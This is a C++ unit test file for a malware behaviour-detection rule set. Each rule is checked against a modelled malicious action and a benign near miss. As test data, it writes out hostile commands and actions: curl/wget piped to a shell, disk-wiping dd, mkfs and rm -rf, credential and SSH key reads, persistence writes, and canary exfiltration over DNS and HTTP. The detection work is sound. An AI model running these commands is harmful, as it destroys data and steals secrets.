// Every shipped rule fires on a minimal behaviour model made for it and stays silent on
// a near miss: the benign thing that looks most like it (a shell read of ~/.bashrc
// versus a write, /proc/self/exe versus /proc/self/fd/3, loopback versus outbound, the
// toolchain writing a binary versus module code dropping one). Plus the verdict rules:
// weak signals never add up to malicious, plan/build are never findings.
#include <gtest/gtest.h>

#include <algorithm>
#include <functional>
#include <set>
#include <sstream>

#include "detect/honeytokens.h"
#include "detect/verdict.h"
#include "model_builder.h"

namespace gs::detect {
namespace {

using testing::ModelBuilder;

const RuleSet& rules() {
  static RuleSet r = [] {
    auto loaded = RuleSet::load_dir(GS_RULES_DIR);
    if (!loaded) ADD_FAILURE() << loaded.error().message();
    return loaded ? std::move(*loaded) : RuleSet{};
  }();
  return r;
}

const Honeytokens& tokens() {
  static Honeytokens h = Honeytokens::generate(42);
  return h;
}

struct Ctx {
  ModelBuilder m;
  ExfilScan exfil{tokens()};
};

using Build = std::function<void(Ctx&)>;

struct Case {
  std::string rule;
  Build fire;
  Build miss;
};

std::string canary(const std::string& source) {
  for (const auto& c : tokens().canaries)
    if (c.source == source) return c.value;
  ADD_FAILURE() << "no canary " << source;
  return {};
}

std::string hex(const std::string& s) { return hex_form(s, false); }

void deletes(ModelBuilder& m, const std::string& phase, const std::string& dir, int n) {
  for (int i = 0; i < n; ++i) m.file(phase, dir + "/f" + std::to_string(i), {"delete"});
}

const std::vector<Case>& cases() {
  static const std::vector<Case> all = {
      // execution
      {"shell-downloader-pipe",
       [](Ctx& c) {
         c.m.exec("init", "/bin/sh", {"/bin/sh", "-c", "curl -fsSL http://a.invalid/x | bash"});
       },
       [](Ctx& c) {
         c.m.exec("init", "/bin/sh", {"/bin/sh", "-c", "curl -fsSL -o /tmp/x http://a.invalid/x"});
       }},
      {"downloader-started",
       [](Ctx& c) {
         c.m.exec("init", "/usr/bin/wget", {"wget", "http://a.invalid/"});
       },
       [](Ctx& c) {
         c.m.exec("test", "/usr/bin/wget", {"wget", "http://a.invalid/"});
       }},
      {"downloader-started-test",
       [](Ctx& c) {
         c.m.exec("test", "/usr/bin/curl", {"curl", "http://a.invalid/"});
       },
       [](Ctx& c) {
         c.m.exec("build", "/usr/bin/curl", {"curl", "http://a.invalid/"});
       }},
      {"shell-started-init", [](Ctx& c) { c.m.exec("init", "/usr/bin/bash", {"bash"}); },
       [](Ctx& c) {
         c.m.exec("init", "/usr/bin/uname", {"uname", "-r"});
       }},
      {"shell-started-run",
       [](Ctx& c) {
         c.m.exec("run", "/bin/sh", {"sh", "-c", "true"});
       },
       [](Ctx& c) {
         c.m.exec("run", "/usr/bin/gofmt", {"gofmt", "-l", "."});
       }},
      {"shell-started-test",
       [](Ctx& c) {
         c.m.exec("test", "/usr/bin/python3.11", {"python3", "x.py"});
       },
       [](Ctx& c) {
         c.m.exec("build", "/bin/sh", {"sh", "-c", "gcc"});
       }},
      {"fileless-exec", [](Ctx& c) { c.m.exec("init", "/proc/self/fd/3", {"[kworker/0:1]"}); },
       // The re-exec of oneself (reexec, docker's pkg) is ordinary.
       [](Ctx& c) {
         c.m.exec("init", "/proc/self/exe", {"/proc/self/exe", "child"});
       }},
      {"dropper-exec-init",
       [](Ctx& c) {
         c.m.file("init", "/tmp/.x/payload", {"create", "write", "chmod", "exec"});
       },
       [](Ctx& c) { c.m.file("init", "/tmp/.x/payload", {"exec"}); }},
      {"dropper-exec-test",
       [](Ctx& c) {
         c.m.file("test", "/tmp/TestRun123/helper.sh", {"create", "write", "exec"});
       },
       [](Ctx& c) {
         int link = c.m.exec("test", "/usr/lib/go-1.19/pkg/tool/linux_amd64/link",
                             {"link", "-o", "/tmp/b/exe/a.out"});
         c.m.file("test", "/tmp/b/exe/a.out", {"create", "write", "exec"}, link);
       }},
      // network
      {"network-in-init", [](Ctx& c) { c.m.connect("init", "203.0.113.5", 443, "", 3); },
       [](Ctx& c) { c.m.connect("init", "127.0.0.1", 8080); }},
      {"dns-in-init", [](Ctx& c) { c.m.dns("init", "update.c2.test"); },
       [](Ctx& c) { c.m.dns("test", "update.c2.test"); }},
      {"beacon-init-run",
       [](Ctx& c) {
         c.m.connect("init", "203.0.113.10", 4444, "", 6);
         c.m.beacon("203.0.113.10:4444", 0.9);
       },
       [](Ctx& c) {
         c.m.connect("init", "203.0.113.10", 4444, "", 6);
         c.m.beacon("203.0.113.10:4444", 0.5);
       }},
      {"beacon-test",
       [](Ctx& c) {
         c.m.connect("test", "198.51.100.1", 80, "api.example.test", 6);
         c.m.beacon("api.example.test", 0.8);
       },
       [](Ctx& c) {
         c.m.connect("test", "198.51.100.1", 80, "api.example.test", 6);
         c.m.beacon("api.example.test", 0.8, "backoff");
       }},
      {"dns-txt-polling", [](Ctx& c) { c.m.dns("init", "cmd.c2.test", "TXT", 5); },
       [](Ctx& c) { c.m.dns("init", "cmd.c2.test", "TXT", 1); }},
      {"dns-txt-init", [](Ctx& c) { c.m.dns("init", "cmd.c2.test", "TXT"); },
       [](Ctx& c) { c.m.dns("init", "cmd.c2.test", "A"); }},
      {"dns-exfiltration",
       [](Ctx& c) {
         c.m.dns("init", std::string(60, 'a') + "1f3e9b27c4d58e0a." + "0.d.sink.test");
       },
       [](Ctx& c) { c.m.dns("init", "www.example.test"); }},
      {"canary-exfiltration",
       [](Ctx& c) {
         std::string h = hex(canary("env:GITHUB_TOKEN"));
         c.m.dns("init", h.substr(0, 50) + ".0.x.sink.test", "A", 1, 10);
         c.m.dns("init", h.substr(50) + ".1.x.sink.test", "A", 1, 20);
       },
       [](Ctx& c) {
         std::string h =
             hex(Honeytokens::generate(7).canaries.front().value);  // another run's canary
         c.m.dns("init", h.substr(0, 50) + ".0.x.sink.test", "A", 1, 10);
       }},
      // credentials
      {"honeytoken-read", [](Ctx& c) { c.m.file("init", "/home/dev/.aws/credentials", {"read"}); },
       [](Ctx& c) { c.m.file("init", "/home/dev/.aws/credentials.example", {"read"}); }},
      {"honeytoken-read-test", [](Ctx& c) { c.m.file("test", "/home/dev/.ssh/id_rsa", {"read"}); },
       [](Ctx& c) { c.m.file("test", "/home/dev/.ssh/id_rsa.pub", {"read"}); }},
      {"credential-files-read", [](Ctx& c) { c.m.file("run", "/home/dev/.kube/config", {"read"}); },
       [](Ctx& c) {
         int git = c.m.exec("run", "/usr/bin/git", {"git", "fetch"});
         c.m.file("run", "/home/dev/.git-credentials", {"read"}, git);
       }},
      {"credential-files-read-test", [](Ctx& c) { c.m.file("test", "/home/dev/.netrc", {"read"}); },
       [](Ctx& c) {
         c.m.file("test", "/home/dev/.netrc", {"create", "write"});
       }},
      {"private-keys-read", [](Ctx& c) { c.m.file("init", "/home/dev/.ssh/id_ed25519", {"read"}); },
       [](Ctx& c) { c.m.file("init", "/home/dev/.ssh/id_ed25519.pub", {"read"}); }},
      // persistence
      {"persistence-cron",
       [](Ctx& c) {
         c.m.file("init", "/var/spool/cron/crontabs/dev", {"create", "write"});
       },
       [](Ctx& c) { c.m.file("init", "/var/spool/cron/crontabs/dev", {"read"}); }},
      {"persistence-crontab-command",
       [](Ctx& c) {
         c.m.exec("init", "/usr/bin/crontab", {"crontab", "-"});
       },
       [](Ctx& c) {
         c.m.exec("build", "/usr/bin/crontab", {"crontab", "-"});
       }},
      {"persistence-systemd",
       [](Ctx& c) {
         c.m.file("init", "/home/dev/.config/systemd/user/x.service", {"create", "write"});
       },
       [](Ctx& c) { c.m.file("init", "/home/dev/.config/systemd/user/x.service", {"read"}); }},
      {"persistence-autostart",
       [](Ctx& c) {
         c.m.file("run", "/home/dev/.config/autostart/x.desktop", {"create", "write"});
       },
       [](Ctx& c) {
         c.m.file("run", "/home/dev/.config/autostart-backup", {"create", "write"});
       }},
      {"persistence-shell-rc", [](Ctx& c) { c.m.file("init", "/home/dev/.bashrc", {"write"}); },
       [](Ctx& c) { c.m.file("init", "/home/dev/.bashrc", {"read"}); }},
      {"persistence-authorized-keys",
       [](Ctx& c) { c.m.file("init", "/home/dev/.ssh/authorized_keys", {"write"}); },
       [](Ctx& c) { c.m.file("init", "/home/dev/.ssh/known_hosts", {"write"}); }},
      {"persistence-git-hooks",
       [](Ctx& c) {
         c.m.file("init", "/home/dev/src/app/.git/hooks/pre-commit", {"create", "write", "chmod"});
       },
       [](Ctx& c) {
         c.m.file("init", "/home/dev/src/app/.git/hooks/pre-commit.sample", {"create", "write"});
       }},
      {"persistence-git-hooks-test",
       [](Ctx& c) {
         c.m.file("test", "/tmp/T1/repo/.git/hooks/post-checkout", {"create", "write"});
       },
       [](Ctx& c) {
         int git = c.m.exec("test", "/usr/bin/git", {"git", "init"});
         c.m.file("test", "/tmp/T1/repo/.git/hooks/post-checkout", {"create", "write"}, git);
       }},
      {"persistence-ld-preload",
       [](Ctx& c) {
         c.m.file("init", "/etc/ld.so.preload", {"create", "write"});
       },
       // The dynamic loader reads it in every program.
       [](Ctx& c) { c.m.file("init", "/etc/ld.so.preload", {"read"}); }},
      // impact
      {"wiper-block-device", [](Ctx& c) { c.m.file("init", "/dev/sda", {"write"}); },
       [](Ctx& c) { c.m.file("init", "/dev/null", {"write"}); }},
      {"wiper-dd-device",
       [](Ctx& c) {
         c.m.exec("init", "/usr/bin/dd", {"dd", "if=/dev/zero", "of=/dev/nvme0n1", "bs=1M"});
       },
       [](Ctx& c) {
         c.m.exec("init", "/usr/bin/dd", {"dd", "if=/dev/zero", "of=/dev/null", "bs=1M"});
       }},
      {"wiper-rm-home",
       [](Ctx& c) {
         c.m.exec("init", "/usr/bin/rm", {"rm", "-rf", "/home/dev"});
       },
       [](Ctx& c) {
         c.m.exec("init", "/usr/bin/rm", {"rm", "-rf", "/home/dev/build/cache"});
       }},
      {"wiper-shred",
       [](Ctx& c) {
         c.m.exec("run", "/usr/sbin/mkfs.ext4", {"mkfs.ext4", "/dev/sdb1"});
       },
       [](Ctx& c) {
         c.m.exec("run", "/usr/bin/mkfifo", {"mkfifo", "/tmp/p"});
       }},
      {"mass-deletion", [](Ctx& c) { deletes(c.m, "init", "/home/dev/projects", 30); },
       [](Ctx& c) { deletes(c.m, "init", "/tmp/cache", 300); }},
      {"mass-deletion-test", [](Ctx& c) { deletes(c.m, "test", "/home/dev/data", 120); },
       [](Ctx& c) { deletes(c.m, "test", "/home/dev/go/src/mod/testdata", 120); }},
      // evasion
      {"sandbox-probe",
       [](Ctx& c) {
         c.m.file("init", "/.dockerenv", {"read"});
         c.m.file("init", "/proc/uptime", {"read"});
       },
       // automaxprocs reads its cgroup at init: one probe is not a pattern.
       [](Ctx& c) { c.m.file("init", "/proc/self/cgroup", {"read"}); }},
      {"sandbox-probe-single",
       [](Ctx& c) { c.m.file("run", "/sys/class/dmi/id/product_name", {"read"}); },
       [](Ctx& c) { c.m.file("run", "/proc/self/mountinfo", {"read"}); }},
      {"sandbox-probe-test",
       [](Ctx& c) {
         c.m.file("test", "/.dockerenv", {"read"});
         c.m.file("test", "/proc/1/cgroup", {"read"});
       },
       [](Ctx& c) { c.m.file("test", "/.dockerenv", {"read"}); }},
      {"listener-init", [](Ctx& c) { c.m.listener("init", "tcp", "0.0.0.0", 4444); },
       // a listener on loopback is reachable only from inside
       [](Ctx& c) { c.m.listener("init", "tcp", "127.0.0.1", 0); }},
      {"listener-run", [](Ctx& c) { c.m.listener("run", "udp", "::", 9999, "/work/out/bin/x"); },
       // a test's server on all addresses is what httptest-like helpers do
       [](Ctx& c) { c.m.listener("test", "tcp", "::", 0, "/work/out/tests/x.test"); }},
      // escape
      {"container-socket-init",
       [](Ctx& c) { c.m.failed_file("init", "/var/run/docker.sock", {"connect"}, -2, "ENOENT"); },
       // a D-Bus client's system bus is a unix socket too, and no container runtime
       [](Ctx& c) { c.m.file("init", "/run/dbus/system_bus_socket", {"connect"}); }},
      {"container-socket-run",
       [](Ctx& c) { c.m.file("run", "@/containerd-shim/k8s.io/abc/shim.sock", {"connect"}); },
       // looking at the socket is not talking to it
       [](Ctx& c) { c.m.file("run", "/run/containerd/containerd.sock", {"read"}); }},
      {"container-socket-test",
       [](Ctx& c) { c.m.file("test", "/run/user/1000/podman/podman.sock", {"connect"}); },
       // a test's own socket in its temp dir
       [](Ctx& c) { c.m.file("test", "/tmp/TestServe123/docker.sock", {"connect"}); }},
      {"denied-privileged-syscall", [](Ctx& c) { c.m.denied("mount", c.m.runner("init")); },
       [](Ctx& c) { c.m.denied("clone3", c.m.runner("init"), 4); }},
      {"cgo-constructor",
       [](Ctx& c) { c.m.binary("init", "/work/out/initrunner", {"evil_ctor"}); },
       // Built for the build phase only (never run): not module code running.
       [](Ctx& c) { c.m.binary("build", "/work/out/initrunner", {"evil_ctor"}); }},
      {"code-before-runtime",
       [](Ctx& c) { c.m.pre_runtime("init", "exec", "started sh -c id"); },
       [](Ctx& c) { c.m.pre_runtime("build", "exec", "started sh -c id"); }},
  };
  return all;
}

std::string describe(const Verdict& v) {
  std::ostringstream o;
  o << v.verdict << " " << v.score;
  for (const auto& f : v.findings) o << "\n  " << f.rule << " [" << f.phase << "] " << f.summary;
  return o.str();
}

bool fired(const Verdict& v, const std::string& rule) {
  for (const auto& f : v.findings)
    if (f.rule == rule) return true;
  return false;
}

class RuleCase : public ::testing::TestWithParam<size_t> {};

TEST_P(RuleCase, FiresOnItsModelAndNotOnTheNearMiss) {
  const Case& c = cases()[GetParam()];
  ASSERT_NE(rules().find(c.rule), nullptr) << c.rule << " is not a shipped rule";
  Ctx hit;
  c.fire(hit);
  Verdict v = evaluate(rules(), hit.m.json(), tokens(), hit.exfil);
  EXPECT_TRUE(fired(v, c.rule)) << c.rule << " did not fire:\n" << describe(v);
  for (const auto& f : v.findings) {
    if (f.rule != c.rule) continue;
    EXPECT_FALSE(f.summary.empty());
    EXPECT_EQ(f.summary.find('{'), std::string::npos) << "unrendered placeholder: " << f.summary;
    EXPECT_EQ(f.attack, rules().find(c.rule)->attack);
  }
  Ctx miss;
  c.miss(miss);
  Verdict nv = evaluate(rules(), miss.m.json(), tokens(), miss.exfil);
  EXPECT_FALSE(fired(nv, c.rule)) << c.rule << " fired on its near miss:\n" << describe(nv);
}

INSTANTIATE_TEST_SUITE_P(EveryRule, RuleCase, ::testing::Range(size_t{0}, cases().size()),
                         [](const auto& info) {
                           std::string n = cases()[info.param].rule;
                           std::replace(n.begin(), n.end(), '-', '_');
                           return n;
                         });

TEST(RuleCase, EveryShippedRuleHasACase) {
  std::set<std::string> covered;
  for (const auto& c : cases()) covered.insert(c.rule);
  for (const auto& r : rules().rules())
    EXPECT_TRUE(covered.contains(r.id)) << r.id << " has no test case";
}

TEST(Verdict, EmptyModelIsCleanWithScoreZero) {
  ModelBuilder m;
  Verdict v = evaluate(rules(), m.json(), tokens(), ExfilScan{});
  EXPECT_EQ(v.verdict, "clean");
  EXPECT_EQ(v.score, 0);
  EXPECT_TRUE(v.findings.empty());
}

TEST(Verdict, ToolchainPhasesAndJailInitAreNeverFindings) {
  ModelBuilder m;
  m.exec("build", "/bin/sh", {"/bin/sh", "-c", "curl http://x.invalid | sh"});
  m.file("build", "/home/dev/.bashrc", {"write"});
  m.file("build", "/tmp/go-build1/a.out", {"create", "write", "exec"});
  m.file("init", "/home/dev/.ssh/authorized_keys", {"write"},
         /*process=*/1);  // id 1: build's jail init
  m.denied("mount", 1);
  Verdict v = evaluate(rules(), m.json(), tokens(), ExfilScan{});
  EXPECT_EQ(v.verdict, "clean") << describe(v);
  EXPECT_TRUE(v.findings.empty()) << describe(v);
}

TEST(Verdict, WeakSignalsAloneAreSuspiciousNeverMalicious) {
  ModelBuilder m;
  m.connect("init", "198.51.100.4", 443);   // medium
  m.dns("init", "telemetry.example.test");  // medium
  m.file("init", "/.dockerenv", {"read"});  // two probes: medium
  m.file("init", "/proc/uptime", {"read"});
  m.denied("ptrace", m.runner("init"));             // medium
  m.exec("test", "/bin/sh", {"sh", "-c", "make"});  // low
  Verdict v = evaluate(rules(), m.json(), tokens(), ExfilScan{});
  EXPECT_EQ(v.verdict, "suspicious") << describe(v);
  EXPECT_LT(v.score, kMaliciousScore);
  EXPECT_GE(v.score, kSuspiciousScore);
}

TEST(Verdict, AConstructorAloneStaysCleanActingFromOneIsMalicious) {
  Ctx quiet;
  quiet.m.binary("test", "/work/out/tests/x.test", {"_GLOBAL__sub_I_lib.cc"});
  Verdict v = evaluate(rules(), quiet.m.json(), tokens(), quiet.exfil);
  EXPECT_EQ(v.verdict, "clean") << describe(v);
  EXPECT_TRUE(fired(v, "cgo-constructor"));
  Ctx acting;
  acting.m.binary("test", "/work/out/tests/x.test", {"ctor"});
  acting.m.pre_runtime("test", "file", "opened for writing /home/dev/.bashrc");
  Verdict a = evaluate(rules(), acting.m.json(), tokens(), acting.exfil);
  EXPECT_EQ(a.verdict, "malicious") << describe(a);
}

TEST(Verdict, AFailedWriteThenAnExecIsNoDropper) {
  Ctx c;
  c.m.failed_file("init", "/usr/local/bin/tool", {"create", "write"}, -13, "EACCES");
  c.m.file("init", "/usr/local/bin/tool", {"exec"});
  Verdict v = evaluate(rules(), c.m.json(), tokens(), c.exfil);
  EXPECT_FALSE(fired(v, "dropper-exec-init")) << describe(v);
}

// An exec the kernel refused (a dropped file left without its x bit) ran nothing: the
// attempt is in files, the rule that says "executed it" stays quiet.
TEST(Verdict, AWriteThenAFailedExecIsNoDropper) {
  Ctx c;
  c.m.file("init", "/tmp/stage2", {"create", "write"});
  c.m.failed_file("init", "/tmp/stage2", {"exec"}, -13, "EACCES");
  Verdict v = evaluate(rules(), c.m.json(), tokens(), c.exfil);
  EXPECT_FALSE(fired(v, "dropper-exec-init")) << describe(v);
  c.m.file("init", "/tmp/stage2", {"exec"});  // then chmod +x and run: it did
  v = evaluate(rules(), c.m.json(), tokens(), c.exfil);
  EXPECT_TRUE(fired(v, "dropper-exec-init")) << describe(v);
}

TEST(Verdict, OneLowSignalStaysClean) {
  ModelBuilder m;
  m.exec("test", "/bin/sh", {"sh", "-c", "go env GOROOT"});
  Verdict v = evaluate(rules(), m.json(), tokens(), ExfilScan{});
  EXPECT_EQ(v.verdict, "clean") << describe(v);
  EXPECT_EQ(v.findings.size(), 1u) << "the finding is still reported";
  EXPECT_LT(v.score, kSuspiciousScore);
}

TEST(Verdict, LoopbackTestTrafficIsNotOutbound) {
  ModelBuilder m;
  m.connect("test", "127.0.0.1", 34567, "", 40);
  m.connect("init", "::1", 8080);
  m.beacon("127.0.0.1:34567", 1.0);
  Verdict v = evaluate(rules(), m.json(), tokens(), ExfilScan{});
  EXPECT_TRUE(v.findings.empty()) << describe(v);
}

// A connection's joined processes give its findings their process chain.
TEST(Verdict, NetworkFindingsNameTheProcessThatConnected) {
  ModelBuilder m;
  int sh = m.exec("init", "/bin/sh", {"sh", "-c", "x"});
  m.connect("init", "203.0.113.9", 443, "", 9);
  m.json_ref()["network"]["connections"].back()["processes"] = {sh};
  Verdict v = evaluate(rules(), m.json(), tokens(), ExfilScan{});
  bool seen = false;
  for (const auto& f : v.findings)
    if (f.rule == "network-in-init") {
      seen = true;
      ASSERT_EQ(f.process_chain.size(), 2u) << describe(v);
      EXPECT_EQ(f.process_chain.front(), "/work/out/initrunner");
    }
  EXPECT_TRUE(seen) << describe(v);
}

TEST(Verdict, RepeatsOfOneRuleInOnePhaseAreOneFindingWithAllEvidence) {
  ModelBuilder m;
  int a = m.exec("init", "/bin/sh", {"sh", "-c", "wget -O- http://a.invalid/1 | sh"});
  int b = m.exec("init", "/bin/sh", {"sh", "-c", "wget -O- http://a.invalid/2 | sh"});
  (void)a, (void)b;
  Verdict v = evaluate(rules(), m.json(), tokens(), ExfilScan{});
  int n = 0;
  for (const auto& f : v.findings)
    if (f.rule == "shell-downloader-pipe") {
      ++n;
      EXPECT_EQ(f.evidence.size(), 2u);
      EXPECT_NE(f.summary.find("(+1 more)"), std::string::npos) << f.summary;
      EXPECT_EQ(f.process_chain.size(), 2u);
      EXPECT_EQ(f.process_chain.front(), "/work/out/initrunner");
    }
  EXPECT_EQ(n, 1);
  EXPECT_EQ(v.verdict, "malicious");
}

TEST(Verdict, ExfiltrationHitsFromTheCaptureBecomeFindingsWithTheDestination) {
  ModelBuilder m;
  m.connect("test", "198.19.4.2", 80, "collector.test");
  ExfilScan scan(tokens());
  std::string body = "data=" + base64_encode("GITHUB_TOKEN=" + canary("env:GITHUB_TOKEN"));
  scan.add(scan.scan_bytes(std::span(reinterpret_cast<const uint8_t*>(body.data()), body.size()),
                           "198.19.4.2:80"));
  Verdict v = evaluate(rules(), m.json(), tokens(), scan);
  ASSERT_FALSE(v.findings.empty());
  const Finding& f = v.findings.front();
  EXPECT_EQ(f.rule, "canary-exfiltration");
  EXPECT_EQ(f.phase, "test");
  EXPECT_EQ(f.destination, "collector.test:80");
  EXPECT_EQ(f.score, 100);
  EXPECT_NE(f.summary.find("env:GITHUB_TOKEN"), std::string::npos) << f.summary;
  EXPECT_NE(f.summary.find("base64"), std::string::npos) << f.summary;
  EXPECT_EQ(v.verdict, "malicious");
}

TEST(Verdict, CanaryInAnHttpPathIsFoundFromTheReportAlone) {
  ModelBuilder m;
  m.connect("init", "198.19.4.9", 80, "t.test");
  m.http("/p?k=" + hex_form(canary("~/.aws/credentials"), true));
  Verdict v = evaluate(rules(), m.json(), tokens(), ExfilScan(tokens()));
  EXPECT_TRUE(fired(v, "canary-exfiltration")) << describe(v);
}

TEST(Verdict, ManyUniqueSubdomainsOfOneDomainIsDnsExfiltration) {
  ModelBuilder m;
  for (int i = 0; i < 14; ++i) m.dns("run", "c" + std::to_string(i * 7919) + ".q.sink.test");
  Verdict v = evaluate(rules(), m.json(), tokens(), ExfilScan{});
  EXPECT_TRUE(fired(v, "dns-exfiltration")) << describe(v);
  ModelBuilder few;
  for (int i = 0; i < 5; ++i) few.dns("run", "c" + std::to_string(i) + ".q.sink.test");
  EXPECT_FALSE(fired(evaluate(rules(), few.json(), tokens(), ExfilScan{}), "dns-exfiltration"));
}

}  // namespace
}  // namespace gs::detect
